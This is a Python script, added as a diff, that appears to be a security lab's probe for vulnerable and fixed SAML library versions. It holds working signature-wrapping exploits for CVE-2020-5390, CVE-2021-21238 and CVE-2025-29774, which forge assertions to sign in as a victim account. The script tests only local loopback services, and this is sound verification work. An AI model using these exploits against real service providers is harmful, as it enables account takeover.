@@ -1,0 +1,435 @@
+"""Independent truth probe for the library twins (lab/twins/<name>/lab.toml).
+
+Measures, without samlconf (no mock IdP, no fault library, no harness code), the facts the lab's
+expected matrix asserts for a twin:
+
+  1. the golden login works: an SP-initiated login answered by a Response this probe builds and
+     signs itself (lxml + python-xmlsec calls written here, its own RSA key and self-signed cert,
+     its own IdP metadata handed to the twin) signs the user in (whoami names them);
+  2. how the SP signals a refusal: the same Response with the NameID changed after signing;
+  3. for each CVE of the twin's library, the published exploit in the shape its advisory and fix
+     describe: an attacker holding a genuinely signed assertion for *their own* account rewrites
+     the message so that the victim's identity is used. Vulnerable twin: the victim is signed in.
+     Fixed twin: nobody is.
+
+    python lab/twins/probe.py pysaml2-4.9.0 [--port 9790] [--write]
+
+It runs the twin's own install and start commands from its lab.toml (same run dir as the lab:
+build/lab/<name>/), on the probe's loopback port, stops the process group it started, and prints
+the facts as a TOML section; --write replaces that section in lab/truth.toml.
+"""
+from __future__ import annotations
+
+import argparse
+import base64
+import copy
+import datetime as dt
+import hashlib
+import os
+import re
+import secrets
+import signal
+import subprocess
+import sys
+import tempfile
+import time
+import tomllib
+import zlib
+from pathlib import Path
+from urllib.parse import parse_qs, urlparse
+
+import httpx
+import xmlsec
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import rsa
+from cryptography.x509.oid import NameOID
+from lxml import etree
+
+HERE = Path(__file__).resolve().parent
+LAB = HERE.parent
+REPO = LAB.parent
+TRUTH = LAB / "truth.toml"
+
+NS = {
+    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
+    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
+    "ds": "http://www.w3.org/2000/09/xmldsig#",
+    "md": "urn:oasis:names:tc:SAML:2.0:metadata",
+}
+IDP = "urn:lab:twin-probe-idp"
+ATTACKER = "mallory@attacker.test"
+VICTIM = "admin@victim.test"
+
+# Which exploits each twin is probed with; "vulnerable" is what the advisory says of that version.
+TWINS: dict[str, dict] = {
+    "pysaml2-4.9.0": {"cves": ["CVE-2020-5390"], "vulnerable": True},
+    "pysaml2-5.0.0": {"cves": ["CVE-2020-5390"], "vulnerable": False},
+    "pysaml2-6.4.1": {"cves": ["CVE-2021-21238"], "vulnerable": True},
+    "pysaml2-6.5.0": {"cves": ["CVE-2021-21238"], "vulnerable": False},
+    "xml-crypto-6.0.0": {"cves": ["CVE-2025-29774"], "vulnerable": True},
+    "xml-crypto-6.0.1": {"cves": ["CVE-2025-29774"], "vulnerable": False},
+}
+
+
+# --- keys and metadata: the probe's own IdP ----------------------------------------------------
+def make_idp(tmp: Path, sso_url: str) -> tuple[Path, bytes, bytes]:
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "lab twin probe IdP")])
+    now = dt.datetime.now(dt.timezone.utc)
+    cert = (
+        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
+        .serial_number(x509.random_serial_number()).not_valid_before(now - dt.timedelta(days=1))
+        .not_valid_after(now + dt.timedelta(days=30)).sign(key, hashes.SHA256())
+    )
+    key_pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
+    cert_pem = cert.public_bytes(serialization.Encoding.PEM)
+    cert_b64 = base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()
+    md = f"""<md:EntityDescriptor xmlns:md="{NS['md']}" xmlns:ds="{NS['ds']}" entityID="{IDP}">
+  <md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
+    <md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>{cert_b64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>
+    <md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</md:NameIDFormat>
+    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="{sso_url}"/>
+    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="{sso_url}"/>
+  </md:IDPSSODescriptor>
+</md:EntityDescriptor>
+"""
+    path = tmp / "probe-idp-metadata.xml"
+    path.write_text(md)
+    return path, key_pem, cert_pem
+
+
+# --- building and signing ----------------------------------------------------------------------
+def _ts(delta: int = 0) -> str:
+    return (dt.datetime.now(dt.timezone.utc) + dt.timedelta(seconds=delta)).strftime("%Y-%m-%dT%H:%M:%SZ")
+
+
+def _el(parent, tag: str, text: str | None = None, **attrs):
+    prefix, local = tag.split(":")
+    e = etree.SubElement(parent, f"{{{NS[prefix]}}}{local}", **attrs) if parent is not None else etree.Element(
+        f"{{{NS[prefix]}}}{local}", nsmap={"saml": NS["saml"]} if prefix == "saml" else {"samlp": NS["samlp"], "saml": NS["saml"]}, **attrs)
+    if text is not None:
+        e.text = text
+    return e
+
+
+def build_assertion(email: str, sp_entity: str, acs: str, irt: str) -> etree._Element:
+    a = _el(None, "saml:Assertion", ID="_a" + secrets.token_hex(12), Version="2.0", IssueInstant=_ts())
+    _el(a, "saml:Issuer", IDP)
+    subj = _el(a, "saml:Subject")
+    _el(subj, "saml:NameID", email, Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress")
+    sc = _el(subj, "saml:SubjectConfirmation", Method="urn:oasis:names:tc:SAML:2.0:cm:bearer")
+    _el(sc, "saml:SubjectConfirmationData", NotOnOrAfter=_ts(300), Recipient=acs, InResponseTo=irt)
+    cond = _el(a, "saml:Conditions", NotBefore=_ts(-60), NotOnOrAfter=_ts(300))
+    _el(_el(cond, "saml:AudienceRestriction"), "saml:Audience", sp_entity)
+    st = _el(a, "saml:AuthnStatement", AuthnInstant=_ts(), SessionIndex="_s" + secrets.token_hex(8))
+    _el(_el(st, "saml:AuthnContext"), "saml:AuthnContextClassRef",
+        "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport")
+    ats = _el(a, "saml:AttributeStatement")
+    attr = _el(ats, "saml:Attribute", Name="Email", NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic")
+    _el(attr, "saml:AttributeValue", email)
+    return a
+
+
+def build_response(acs: str, irt: str, assertion: etree._Element) -> etree._Element:
+    r = _el(None, "samlp:Response", ID="_r" + secrets.token_hex(12), Version="2.0", IssueInstant=_ts(),
+            Destination=acs, InResponseTo=irt)
+    _el(r, "saml:Issuer", IDP)
+    _el(_el(r, "samlp:Status"), "samlp:StatusCode", Value="urn:oasis:names:tc:SAML:2.0:status:Success")
+    r.append(assertion)
+    return r
+
+
+def sign_assertion(assertion: etree._Element, key_pem: bytes, cert_pem: bytes) -> None:
+    """Enveloped RSA-SHA256 signature over the Assertion (exc-c14n), placed after its Issuer."""
+    sig = xmlsec.template.create(assertion, xmlsec.Transform.EXCL_C14N, xmlsec.Transform.RSA_SHA256, ns="ds")
+    assertion.insert(1, sig)
+    ref = xmlsec.template.add_reference(sig, xmlsec.Transform.SHA256, uri="#" + assertion.get("ID"))
+    xmlsec.template.add_transform(ref, xmlsec.Transform.ENVELOPED)
+    xmlsec.template.add_transform(ref, xmlsec.Transform.EXCL_C14N)
+    xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(sig))
+    ctx = xmlsec.SignatureContext()
+    ctx.register_id(assertion, "ID")
+    key = xmlsec.Key.from_memory(key_pem, xmlsec.KeyFormat.PEM)
+    key.load_cert_from_memory(cert_pem, xmlsec.KeyFormat.PEM)
+    ctx.key = key
+    ctx.sign(sig)
+
+
+def exc_c14n_digest(el: etree._Element) -> str:
+    """SHA-256 of the exclusive canonical form of `el` (no comments), base64: a Reference digest."""
+    return base64.b64encode(hashlib.sha256(etree.tostring(el, method="c14n", exclusive=True, with_comments=False)).digest()).decode()
+
+
+def _nameid(a: etree._Element) -> etree._Element:
+    return a.find("saml:Subject/saml:NameID", NS)
+
+
+def _retarget(a: etree._Element, email: str, new_id: str) -> None:
+    a.set("ID", new_id)
+    _nameid(a).text = email
+    for v in a.iterfind(".//saml:AttributeValue", NS):
+        v.text = email
+
+
+# --- the exploits, each in its advisory's shape --------------------------------------------------
+def exploit_cve_2020_5390(signed: etree._Element) -> tuple[etree._Element, etree._Element]:
+    """pysaml2 < 5.0.0 does not check that the assertion's signature is enveloped, i.e. that its
+    Reference points at the assertion that carries it (GHSA-qf7v-8hj3-4xw7; fix 5e9d5acb checks
+    Reference URI == '#' + the element's ID). Shape: the attacker's forged Assertion (victim NameID,
+    own ID) carries the genuine Signature, whose Reference still names the genuine Assertion; the
+    genuine Assertion (its Signature moved out) rides along in the Response's samlp:Extensions,
+    where xmlsec1 finds it by ID and pysaml2 does not look. (Inside the Signature's ds:Object it
+    cannot be: xmlsec1's enveloped-signature transform would cut it out of its own digest.)"""
+    genuine = copy.deepcopy(signed)
+    sig = genuine.find("ds:Signature", NS)
+    genuine.remove(sig)
+    forged = copy.deepcopy(genuine)
+    _retarget(forged, VICTIM, "_evil" + secrets.token_hex(8))
+    forged.insert(1, sig)
+    return forged, genuine
+
+
+def exploit_cve_2021_21238(signed: etree._Element) -> tuple[etree._Element, etree._Element]:
+    """pysaml2 <= 6.4.1 did not validate the document against the schema, and "xmlsec1 will not
+    validate every signature in the given document, but only the first it finds in the given scope"
+    (GHSA-f4g9-h89h-jgv9; fix 1d8fd268 validates the element against the SAML schema). Shape: the
+    forged Assertion (victim, own ID) holds, before its own ds:Signature, an element the schema does
+    not allow there (an unknown wrapper) with the genuine ds:Signature inside; its Reference names
+    the genuine Assertion, which rides along in samlp:Extensions with its Signature moved out.
+    xmlsec1, started at the forged Assertion's ID, verifies that first Signature it finds; pysaml2
+    reads the Assertion's own ds:Signature child, a copy whose Reference names the forged ID, for its
+    enveloped-signature check of 5.0.0."""
+    genuine = copy.deepcopy(signed)
+    sig = genuine.find("ds:Signature", NS)
+    genuine.remove(sig)
+    forged = copy.deepcopy(genuine)
+    evil_id = "_evil" + secrets.token_hex(8)
+    _retarget(forged, VICTIM, evil_id)
+    decoy = copy.deepcopy(sig)
+    decoy.find("ds:SignedInfo/ds:Reference", NS).set("URI", "#" + evil_id)
+    wrapper = etree.Element("{urn:lab:twin-probe:wrapper}Wrapper", nsmap={"w": "urn:lab:twin-probe:wrapper"})
+    wrapper.append(sig)
+    forged.insert(1, wrapper)
+    forged.insert(2, decoy)
+    return forged, genuine
+
+
+def exploit_cve_2025_29774(signed: etree._Element) -> tuple[etree._Element, etree._Element]:
+    """xml-crypto <= 6.0.0 checks the SignatureValue against the first SignedInfo but collects the
+    References of every SignedInfo under the Signature (GHSA-9p8x-f768-wp2g; 6.0.1 refuses a
+    Signature with more than one SignedInfo). Shape: the forged Assertion (victim, own ID) carries
+    the genuine Signature with a second SignedInfo whose Reference names the forged Assertion with
+    the digest the attacker computed; the genuine Assertion (its Signature moved out) stays in the
+    document, in the Response's samlp:Extensions, so that the genuine Reference still verifies."""
+    genuine = copy.deepcopy(signed)
+    sig = genuine.find("ds:Signature", NS)
+    genuine.remove(sig)
+    forged = copy.deepcopy(genuine)
+    evil_id = "_evil" + secrets.token_hex(8)
+    _retarget(forged, VICTIM, evil_id)
+    digest = exc_c14n_digest(forged)  # the enveloped transform removes the Signature before digesting
+    si2 = copy.deepcopy(sig.find("ds:SignedInfo", NS))
+    ref = si2.find("ds:Reference", NS)
+    ref.set("URI", "#" + evil_id)
+    ref.find("ds:DigestValue", NS).text = digest
+    sig.find("ds:SignatureValue", NS).addnext(si2) if sig.find("ds:KeyInfo", NS) is None else sig.find("ds:KeyInfo", NS).addnext(si2)
+    forged.insert(1, sig)
+    return forged, genuine
+
+
+SHAPES = {
+    "CVE-2020-5390": "forged Assertion(victim, own ID) carries the genuine Signature (Reference -> genuine ID); "
+                     "genuine Assertion, its Signature moved out, in samlp:Response/samlp:Extensions",
+    "CVE-2021-21238": "forged Assertion(victim, own ID): first a schema-invalid wrapper element holding the genuine "
+                      "ds:Signature (Reference -> genuine ID), then its own ds:Signature, a copy whose Reference names "
+                      "the forged ID; genuine Assertion, its Signature moved out, in samlp:Response/samlp:Extensions",
+    "CVE-2025-29774": "forged Assertion(victim, own ID) carries the genuine Signature plus a second ds:SignedInfo "
+                      "whose Reference digests the forged Assertion; genuine Assertion, its Signature moved out, "
+                      "in samlp:Response/samlp:Extensions",
+}
+
+
+# --- driving the twin ----------------------------------------------------------------------------
+class Twin:
+    def __init__(self, name: str, port: int, out: list[str]) -> None:
+        self.name = name
+        self.dir = HERE / name
+        self.manifest = tomllib.loads((self.dir / "lab.toml").read_text())
+        self.port = port
+        self.base = f"http://127.0.0.1:{port}"
+        self.run_dir = REPO / "build" / "lab" / self.manifest["name"]
+        self.run_dir.mkdir(parents=True, exist_ok=True)
+        self.out = out
+        self.proc: subprocess.Popen | None = None
+
+    def env(self, idp_md: Path) -> dict[str, str]:
+        env = dict(os.environ)
+        env.update({"LAB_NAME": self.manifest["name"], "LAB_DIR": str(self.dir), "LAB_RUN_DIR": str(self.run_dir),
+                    "LAB_REPO": str(REPO), "LAB_PYTHON": sys.executable, "LAB_PORT": str(self.port),
+                    "LAB_IDP_PORT": str(self.port + 1), "LAB_IDP_METADATA": str(idp_md)})
+        env.update(self.manifest.get("env", {}))
+        return env
+
+    def start(self, idp_md: Path) -> None:
+        env = self.env(idp_md)
+        if self.manifest.get("install"):
+            r = subprocess.run(["bash", "-c", self.manifest["install"]], cwd=self.dir, env=env, capture_output=True,
+                               text=True, timeout=900)
+            if r.returncode != 0:
+                raise SystemExit(f"probe: install of {self.name} failed: {r.stdout[-400:]}{r.stderr[-400:]}")
+        self.log = open(self.run_dir / "probe-target.log", "wb")
+        self.proc = subprocess.Popen(["bash", "-c", self.manifest["start"]], cwd=self.dir, env=env, stdout=self.log,
+                                     stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, start_new_session=True)
+        deadline = time.monotonic() + 60
+        while time.monotonic() < deadline:
+            try:
+                if httpx.get(self.base + "/metadata", timeout=2).status_code < 500:
+                    return
+            except httpx.HTTPError:
+                pass
+            if self.proc.poll() is not None:
+                break
+            time.sleep(0.3)
+        self.stop()
+        raise SystemExit(f"probe: {self.name} did not start; see {self.run_dir / 'probe-target.log'}")
+
+    def stop(self) -> None:
+        if self.proc and self.proc.poll() is None:
+            os.killpg(self.proc.pid, signal.SIGTERM)
+            try:
+                self.proc.wait(10)
+            except subprocess.TimeoutExpired:
+                os.killpg(self.proc.pid, signal.SIGKILL)
+                self.proc.wait(5)
+
+    def sp_facts(self) -> tuple[str, str]:
+        md = etree.fromstring(httpx.get(self.base + "/metadata", timeout=10).content,
+                              parser=etree.XMLParser(resolve_entities=False, no_network=True))
+        acs = md.find(".//md:AssertionConsumerService", NS).get("Location")
+        return md.get("entityID"), acs
+
+    def begin(self, client: httpx.Client) -> str:
+        r = client.get(self.base + "/login?email=" + ATTACKER)
+        loc = r.headers.get("location", "")
+        q = parse_qs(urlparse(loc).query)
+        req = etree.fromstring(zlib.decompress(base64.b64decode(q["SAMLRequest"][0]), -15),
+                               parser=etree.XMLParser(resolve_entities=False, no_network=True))
+        return req.get("ID")
+
+    def post(self, client: httpx.Client, acs: str, response: etree._Element) -> tuple[int, str | None, str]:
+        b64 = base64.b64encode(etree.tostring(response)).decode()
+        r = client.post(acs, data={"SAMLResponse": b64})
+        who = client.get(self.base + "/whoami")
+        ident = who.json().get("email") if who.status_code == 200 else None
+        return r.status_code, ident, (r.headers.get("set-cookie") or "")
+
+
+def run(name: str, port: int) -> tuple[dict[str, str], list[str]]:
+    spec = TWINS[name]
+    out: list[str] = []
+    facts: dict[str, str] = {}
+    twin = Twin(name, port, out)
+    with tempfile.TemporaryDirectory(prefix="twin-probe-") as tmp:
+        idp_md, key_pem, cert_pem = make_idp(Path(tmp), f"http://127.0.0.1:{port + 1}/sso")
+        t0 = time.monotonic()
+        twin.start(idp_md)
+        try:
+            entity, acs = twin.sp_facts()
+            out.append(f"SP entityID {entity}, ACS {acs}")
+
+            def fresh() -> tuple[httpx.Client, str]:
+                c = httpx.Client(timeout=15, follow_redirects=False)
+                return c, twin.begin(c)
+
+            # 1. golden login
+            c, irt = fresh()
+            a = build_assertion(ATTACKER, entity, acs, irt)
+            sign_assertion(a, key_pem, cert_pem)
+            st, ident, cookie = twin.post(c, acs, build_response(acs, irt, a))
+            out.append(f"golden: ACS HTTP {st}, whoami -> {ident}")
+            facts["golden_login"] = f"works: ACS HTTP {st}, whoami names {ident}" if ident == ATTACKER else f"FAILED: ACS HTTP {st}, whoami {ident}"
+            # 2. refusal: NameID changed after signing
+            c, irt = fresh()
+            a = build_assertion(ATTACKER, entity, acs, irt)
+            sign_assertion(a, key_pem, cert_pem)
+            _nameid(a).text = VICTIM
+            st, ident, cookie = twin.post(c, acs, build_response(acs, irt, a))
+            out.append(f"tampered NameID: ACS HTTP {st}, set-cookie {'yes' if cookie else 'no'}, whoami -> {ident}")
+            facts["refusal"] = (f"HTTP {st} page, {'a' if cookie else 'no'} session cookie, whoami 401 (nobody)"
+                                if ident is None else f"NOT REFUSED: whoami {ident}")
+            # 3. the CVE exploits
+            for cve in spec["cves"]:
+                c, irt = fresh()
+                a = build_assertion(ATTACKER, entity, acs, irt)
+                sign_assertion(a, key_pem, cert_pem)
+                exploit = {"CVE-2020-5390": exploit_cve_2020_5390, "CVE-2021-21238": exploit_cve_2021_21238,
+                           "CVE-2025-29774": exploit_cve_2025_29774}[cve]
+                forged, genuine = exploit(a)
+                resp = build_response(acs, irt, forged)
+                ext = etree.Element(f"{{{NS['samlp']}}}Extensions")
+                ext.append(genuine)
+                resp.insert(1, ext)
+                shape = SHAPES[cve]
+                st, ident, cookie = twin.post(c, acs, resp)
+                out.append(f"{cve} exploit ({shape}): ACS HTTP {st}, whoami -> {ident}")
+                if ident == VICTIM:
+                    verdict = "victim signed in (takeover)"
+                elif ident is None:
+                    verdict = "refused (nobody signed in)"
+                else:
+                    verdict = f"someone else signed in: {ident}"
+                facts[cve] = f"{verdict}: ACS HTTP {st}; shape: {shape}"
+                facts[cve + ".agrees_with_advisory"] = str((ident == VICTIM) == spec["vulnerable"]).lower()
+        finally:
+            twin.stop()
+        facts["probe_seconds"] = f"{time.monotonic() - t0:.1f}"
+    return facts, out
+
+
+def _toml_str(s: str) -> str:
+    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'
+
+
+def section(name: str, facts: dict[str, str], out: list[str]) -> str:
+    lines = [f"[{_toml_str(name)}]", f"measured_by = {_toml_str('lab/twins/probe.py ' + name)}",
+             f"measured_at = {_toml_str(dt.datetime.now(dt.timezone.utc).strftime('%Y-%m-%dT%H:%M:%SZ'))}"]
+    for k, v in facts.items():
+        lines.append(f"{_toml_str(k)} = {_toml_str(v)}")
+    lines.append("output = [")
+    lines += [f"  {_toml_str(o)}," for o in out]
+    lines.append("]")
+    return "\n".join(lines) + "\n"
+
+
+def write_section(name: str, text: str) -> None:
+    """Replace (or append) the twin's table in lab/truth.toml, leaving every other table as it is."""
+    old = TRUTH.read_text() if TRUTH.exists() else ""
+    header = f"[{_toml_str(name)}]"
+    blocks = re.split(r"(?m)^(?=\[)", old)
+    kept = [b for b in blocks if not b.startswith(header + "\n")]
+    new = "".join(kept).rstrip("\n")
+    new = (new + "\n\n" if new else "") + text
+    tomllib.loads(new)  # still valid TOML
+    TRUTH.write_text(new)
+
+
+def main(argv: list[str] | None = None) -> int:
+    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    p.add_argument("twin", nargs="+", choices=sorted(TWINS))
+    p.add_argument("--port", type=int, default=9790, help="loopback port for the twin during the probe (9700-9799)")
+    p.add_argument("--write", action="store_true", help="replace the twin's section in lab/truth.toml")
+    a = p.parse_args(argv)
+    bad = 0
+    for name in a.twin:
+        facts, out = run(name, a.port)
+        text = section(name, facts, out)
+        print(text)
+        if a.write:
+            write_section(name, text)
+        bad += any(v == "false" for k, v in facts.items() if k.endswith("agrees_with_advisory")) or facts["golden_login"].startswith("FAILED")
+    return 1 if bad else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
